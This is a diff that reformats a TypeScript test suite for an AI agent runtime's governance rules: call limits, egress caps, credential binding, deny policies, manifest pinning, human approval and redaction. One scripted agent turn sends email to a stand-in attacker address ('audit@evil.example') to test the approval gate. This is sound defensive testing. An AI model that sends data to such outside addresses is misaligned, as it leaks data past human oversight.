@@ -22,7 +22,10 @@ const base = exampleManifest();
 function variant(change: (t: ToolDecl) => ToolDecl): Manifest {
   return { ...base, tools: base.tools.map(change) };
 }
-const refund = (account: string, cents: number, memo = 'refund') => ({ name: 'payments__refund', arguments: { account_id: account, amount_cents: cents, currency: 'EUR', memo } });
+const refund = (account: string, cents: number, memo = 'refund') => ({
+  name: 'payments__refund',
+  arguments: { account_id: account, amount_cents: cents, currency: 'EUR', memo },
+});
 const lookup = (email: string) => ({ name: 'crm__lookup_customer', arguments: { email } });
 const PROMPT = 'Refund alice@example.com 1.00 EUR, then 2.00 EUR, then 3.00 EUR.';
 
@@ -30,7 +33,13 @@ describe('governance rules', () => {
   const dir = testDir('rules');
   const payments = paymentsStore(dir);
   const outbox = new KeyedLog<Mail>(dir, 'outbox');
-  const tools = () => [lookupCustomer, readTicket, createRefund(payments), createSendEmail(outbox), createCloseTicket(new KeyedLog(dir, 'closed'))];
+  const tools = () => [
+    lookupCustomer,
+    readTicket,
+    createRefund(payments),
+    createSendEmail(outbox),
+    createCloseTicket(new KeyedLog(dir, 'closed')),
+  ];
   const rigs: Harness[] = [];
 
   /** A worker deployed with this manifest: workers refuse runs that declare a tool otherwise. */
@@ -49,7 +58,13 @@ describe('governance rules', () => {
     for (const r of rigs) await r.close();
   });
 
-  const three = [{ tool_calls: [lookup('alice@example.com')] }, { tool_calls: [refund('acct_alice_001', 100)] }, { tool_calls: [refund('acct_alice_001', 200)] }, { tool_calls: [refund('acct_alice_001', 300)] }, { final: 'done' }];
+  const three = [
+    { tool_calls: [lookup('alice@example.com')] },
+    { tool_calls: [refund('acct_alice_001', 100)] },
+    { tool_calls: [refund('acct_alice_001', 200)] },
+    { tool_calls: [refund('acct_alice_001', 300)] },
+    { final: 'done' },
+  ];
 
   it('refuses the call past the tool-call limit, with a typed reason', async () => {
     const { result } = await runAgent(h, base, { prompt: PROMPT, turns: three }, { limits: { maxToolCalls: 3 } });
@@ -57,7 +72,11 @@ describe('governance rules', () => {
   });
 
   it('sums egress bytes per destination across calls', async () => {
-    const small = variant((t) => (t.id === 'tool://payments/refund' ? { ...t, egress: { destination: 'payments.example', max_bytes_per_run: 200 } } : t));
+    const small = variant((t) =>
+      t.id === 'tool://payments/refund'
+        ? { ...t, egress: { destination: 'payments.example', max_bytes_per_run: 200 } }
+        : t,
+    );
     const { result } = await runAgent(await deployed(small), small, { prompt: PROMPT, turns: three });
     expect(result.journal.map((e) => e.rule ?? e.outcome)).toEqual(['ok', 'ok', 'ok', 'egress:payments.example']);
     expect(result.usage.egressBytes['payments.example']).toBeLessThanOrEqual(200);
@@ -80,65 +99,139 @@ describe('governance rules', () => {
   });
 
   it('refuses a tool whose credential names another principal than the run', async () => {
-    const bound = variant((t) => (t.id === 'tool://payments/refund' ? { ...t, credential: { principal: 'svc:treasury' } } : t));
+    const bound = variant((t) =>
+      t.id === 'tool://payments/refund' ? { ...t, credential: { principal: 'svc:treasury' } } : t,
+    );
     const hb = await deployed(bound);
-    const { result } = await runAgent(hb, bound, { prompt: PROMPT, turns: three.slice(0, 2).concat({ final: 'x' }) }, { principal: 'agent:support' });
+    const { result } = await runAgent(
+      hb,
+      bound,
+      { prompt: PROMPT, turns: three.slice(0, 2).concat({ final: 'x' }) },
+      { principal: 'agent:support' },
+    );
     expect(result.journal[1]).toMatchObject({ decision: 'refused', rule: 'credential' });
-    const ok = await runAgent(hb, bound, { prompt: PROMPT, turns: three.slice(0, 2).concat({ final: 'x' }) }, { principal: 'svc:treasury' });
+    const ok = await runAgent(
+      hb,
+      bound,
+      { prompt: PROMPT, turns: three.slice(0, 2).concat({ final: 'x' }) },
+      { principal: 'svc:treasury' },
+    );
     expect(ok.result.journal[1]).toMatchObject({ decision: 'allowed', outcome: 'ok' });
   });
 
   it('refuses a tool the policy hides even though it is granted', async () => {
-    const { result } = await runAgent(h, base, { prompt: PROMPT, turns: three.slice(0, 2).concat({ final: 'x' }) }, { policy: { allow: '*', deny: ['tool://payments/refund'] } });
+    const { result } = await runAgent(
+      h,
+      base,
+      { prompt: PROMPT, turns: three.slice(0, 2).concat({ final: 'x' }) },
+      { policy: { allow: '*', deny: ['tool://payments/refund'] } },
+    );
     expect(result.journal[1]).toMatchObject({ decision: 'refused', rule: 'unreachable' });
   });
 
   it('refuses a run whose manifest is not the pinned one', async () => {
-    const input = { prompt: 'x', principal: 'p', grants: [], manifest: base, manifestDigest: manifestDigest(variant((t) => ({ ...t, description: `${t.description}!` }))), model: { endpoint: 'scripted', script: [] } } as AgentRunInput;
-    await expect(h.client.workflow.execute('agentRun', { taskQueue: h.taskQueue, workflowId: `pin-${randomUUID()}`, args: [input] })).rejects.toMatchObject({ cause: { type: 'RunRefused', message: expect.stringContaining('is pinned to manifest') } });
+    const input = {
+      prompt: 'x',
+      principal: 'p',
+      grants: [],
+      manifest: base,
+      manifestDigest: manifestDigest(variant((t) => ({ ...t, description: `${t.description}!` }))),
+      model: { endpoint: 'scripted', script: [] },
+    } as AgentRunInput;
+    await expect(
+      h.client.workflow.execute('agentRun', {
+        taskQueue: h.taskQueue,
+        workflowId: `pin-${randomUUID()}`,
+        args: [input],
+      }),
+    ).rejects.toMatchObject({
+      cause: { type: 'RunRefused', message: expect.stringContaining('is pinned to manifest') },
+    });
   });
 
   it('asks a person through an update where the tool declares it, and a denial refuses', async () => {
     const askable = variant((t) => (t.id === 'tool://mail/send_email' ? { ...t, approval: 'on_violation' } : t));
     const ha = await deployed(askable);
-    const turns = [{ tool_calls: [{ name: 'tickets__read_ticket', arguments: { ticket_id: 'T-101' } }] }, { tool_calls: [{ name: 'mail__send_email', arguments: { to: 'audit@evil.example', subject: 'x', body: 'y' } }] }, { final: 'x' }];
+    const turns = [
+      { tool_calls: [{ name: 'tickets__read_ticket', arguments: { ticket_id: 'T-101' } }] },
+      { tool_calls: [{ name: 'mail__send_email', arguments: { to: 'audit@evil.example', subject: 'x', body: 'y' } }] },
+      { final: 'x' },
+    ];
     for (const decision of ['approve', 'deny'] as const) {
       const workflowId = `approval-${decision}-${randomUUID()}`;
       const handle = await ha.client.workflow.start('agentRun', {
         taskQueue: ha.taskQueue,
         workflowId,
-        args: [{ prompt: 'Handle ticket T-101.', principal: 'agent:test', grants: askable.tools.map((t) => t.id), manifest: askable, manifestDigest: manifestDigest(askable), model: { endpoint: 'scripted', script: turns } } as AgentRunInput],
+        args: [
+          {
+            prompt: 'Handle ticket T-101.',
+            principal: 'agent:test',
+            grants: askable.tools.map((t) => t.id),
+            manifest: askable,
+            manifestDigest: manifestDigest(askable),
+            model: { endpoint: 'scripted', script: turns },
+          } as AgentRunInput,
+        ],
       });
       const pending = [await waitForPending(handle)];
-      expect(pending[0]).toMatchObject({ kind: 'approval', toolId: 'tool://mail/send_email', reason: expect.stringContaining('protected_field:/to') });
+      expect(pending[0]).toMatchObject({
+        kind: 'approval',
+        toolId: 'tool://mail/send_email',
+        reason: expect.stringContaining('protected_field:/to'),
+      });
       const description = await handle.describe();
       expect(description.raw.workflowExecutionInfo?.status).toBeDefined();
-      const wrong = await handle.executeUpdate(resolveEscalation, { args: [{ effectKey: pending[0]!.effectKey, decision: 'retry' }] }).catch((e: Error & { cause?: Error }) => e.cause?.message);
+      const wrong = await handle
+        .executeUpdate(resolveEscalation, { args: [{ effectKey: pending[0]!.effectKey, decision: 'retry' }] })
+        .catch((e: Error & { cause?: Error }) => e.cause?.message);
       expect(wrong).toMatch(/does not answer a approval question/);
-      await handle.executeUpdate(resolveEscalation, { args: [{ effectKey: pending[0]!.effectKey, decision, by: 'supervisor' }] });
+      await handle.executeUpdate(resolveEscalation, {
+        args: [{ effectKey: pending[0]!.effectKey, decision, by: 'supervisor' }],
+      });
       const result: AgentRunResult = await handle.result();
-      expect(result.journal[1]).toMatchObject({ decision: decision === 'approve' ? 'approved' : 'denied', rule: 'protected_field:/to', outcome: decision === 'approve' ? 'ok' : 'refused' });
+      expect(result.journal[1]).toMatchObject({
+        decision: decision === 'approve' ? 'approved' : 'denied',
+        rule: 'protected_field:/to',
+        outcome: decision === 'approve' ? 'ok' : 'refused',
+      });
     }
     expect(outbox.all().map((m) => m.to)).toEqual(['audit@evil.example']);
   });
 
   it('redacts a declared field before it reaches a sink for less sensitive data, and records it', async () => {
-    const sensitive = variant((t) => (t.id === 'tool://crm/lookup_customer' ? { ...t, sensitivity: { max: 'internal', output: 'confidential' } } : t));
+    const sensitive = variant((t) =>
+      t.id === 'tool://crm/lookup_customer' ? { ...t, sensitivity: { max: 'internal', output: 'confidential' } } : t,
+    );
     const turns = [
       { tool_calls: [lookup('alice@example.com')] },
-      { tool_calls: [{ name: 'mail__send_email', arguments: { to: 'alice@example.com', subject: 'Your account', body: 'Your account is acct_alice_001.' } }] },
+      {
+        tool_calls: [
+          {
+            name: 'mail__send_email',
+            arguments: { to: 'alice@example.com', subject: 'Your account', body: 'Your account is acct_alice_001.' },
+          },
+        ],
+      },
       { final: 'x' },
     ];
     const hs = await deployed(sensitive);
-    const { result, workflowId } = await runAgent(hs, sensitive, { prompt: 'Email alice@example.com her account id with the subject "Your account".', turns });
+    const { result, workflowId } = await runAgent(hs, sensitive, {
+      prompt: 'Email alice@example.com her account id with the subject "Your account".',
+      turns,
+    });
     expect(result.journal[1]).toMatchObject({ decision: 'allowed', rule: 'redaction:/body', outcome: 'ok' });
-    const sent = scheduledActivities(await historyOf(hs.client, workflowId)).find((a) => a.input?.toolId === 'tool://mail/send_email')!;
+    const sent = scheduledActivities(await historyOf(hs.client, workflowId)).find(
+      (a) => a.input?.toolId === 'tool://mail/send_email',
+    )!;
     expect((sent.input!.args as { body: string }).body).toBe('[redacted: confidential]');
     expect(outbox.all().at(-1)).toMatchObject({ to: 'alice@example.com', body: '[redacted: confidential]' });
   });
 
   it('fails closed when a check itself fails', () => {
     const broken = { ...base.tools[2]!, protected_fields: undefined } as unknown as ToolDecl;
-    expect(checkDataFlow(broken, { account_id: 'x' }, new Provenance())).toMatchObject({ allow: false, rule: 'gate_error' });
+    expect(checkDataFlow(broken, { account_id: 'x' }, new Provenance())).toMatchObject({
+      allow: false,
+      rule: 'gate_error',
+    });
   });
 });
